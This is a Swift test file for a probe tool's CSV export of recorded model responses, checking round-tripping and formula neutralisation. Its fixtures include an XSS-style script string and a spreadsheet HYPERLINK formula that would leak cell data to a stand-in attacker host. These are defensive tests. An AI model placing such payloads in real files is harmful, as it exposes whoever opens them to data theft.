import Foundation
import SwiftCSV
import Testing
import ProbeCore
import ProbeClassifier
import ProbeJournal
import ProbeReports
import SpeechProbeTesting

extension ReportTests {
    struct RecordExportTests {
        static let awkward = "Yes, \"quoted\", and\nsplit over lines\r\n— 六四，天安门 <script>alert(1)</script>"

        @Test func exportRoundTripsThroughSwiftCSV() throws {
            let folder = try TemporaryDirectory()
            let run = RunDirectory(folder.path + "/run")
            try FileManager.default.createDirectory(atPath: run.path, withIntermediateDirectories: true)
            var first = RecordFixtures.record("p,1", response: Self.awkward, topic: "tiananmen, 1989")
            first.reasoning = "思考：\n  careful"
            first.flags = [RecordFlag.thoughtSuppressed, RecordFlag.disclaimer]
            first.classifier = ClassifierStamp(name: "rules", version: "1", confidence: 0.8125, signals: [])
            let failed = RecordFixtures.record("p2", sample: 3, outcome: .error, response: nil)
            var failedWithKind = failed
            failedWithKind.error = RecordError(kind: "timeout", message: "no answer in 120 s")
            do {
                let writer = try JournalWriter(path: run.responses)
                try writer.append(first)
                try writer.append(failedWithKind)
            }
            let path = folder.path + "/records.csv"
            #expect(try RecordExport.write([run], toCSV: path) == 2)
            #expect(!FileManager.default.fileExists(atPath: path + ".partial"))

            let text = try String(contentsOfFile: path, encoding: .utf8)
            let csv = try CSV<Named>(string: text, delimiter: .comma, loadColumns: false)
            #expect(csv.header == RecordExport.header())
            #expect(csv.rows.count == 2)
            let row = csv.rows[0]
            #expect(row["prompt_id"] == "p,1")
            #expect(row["topic"] == "tiananmen, 1989")
            #expect(row["response"] == Self.awkward)
            #expect(row["reasoning"] == "思考：\n  careful")
            #expect(row["flags"] == "thought_suppressed;disclaimer")
            #expect(row["confidence"] == "0.812500")
            #expect(row["classifier"] == "rules 1")
            #expect(row["label"] == "complete")
            #expect(csv.rows[1]["outcome"] == "error")
            #expect(csv.rows[1]["error_kind"] == "timeout")
            #expect(csv.rows[1]["sample"] == "3")
            #expect(csv.rows[1]["label"] == "")
            let parsed = csv.rows.map { row in RecordExport.header().map { row[$0] ?? "?" } }
            #expect(parsed == [first, failedWithKind].map { RecordExport.row($0) })
        }

        @Test func formulaLikeAnswersAreNeutralisedUnlessRawIsAsked() throws {
            let folder = try TemporaryDirectory()
            let run = RunDirectory(folder.path + "/run")
            try FileManager.default.createDirectory(atPath: run.path, withIntermediateDirectories: true)
            let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
            var record = RecordFixtures.record("p1", response: hostile)
            record.classifier = ClassifierStamp(name: "rules", version: "1", confidence: 0.5, signals: [])
            do {
                let writer = try JournalWriter(path: run.responses)
                try writer.append(record)
                try writer.append(RecordFixtures.record("p2", response: "-0.25"))
                try writer.append(RecordFixtures.record("p3", response: "- a markdown list item"))
            }
            let safe = folder.path + "/safe.csv"
            let raw = folder.path + "/raw.csv"
            try RecordExport.write([run], toCSV: safe)
            try RecordExport.write([run], toCSV: raw, neutralizingFormulas: false)
            let safeRows = try CSV<Named>(string: String(contentsOfFile: safe, encoding: .utf8), loadColumns: false).rows
            let rawRows = try CSV<Named>(string: String(contentsOfFile: raw, encoding: .utf8), loadColumns: false).rows
            #expect(safeRows.map { $0["response"] } == ["'" + hostile, "-0.25", "'- a markdown list item"])
            #expect(rawRows.map { $0["response"] } == [hostile, "-0.25", "- a markdown list item"])
            #expect(safeRows[0]["confidence"] == "0.500000")
        }
    }
}
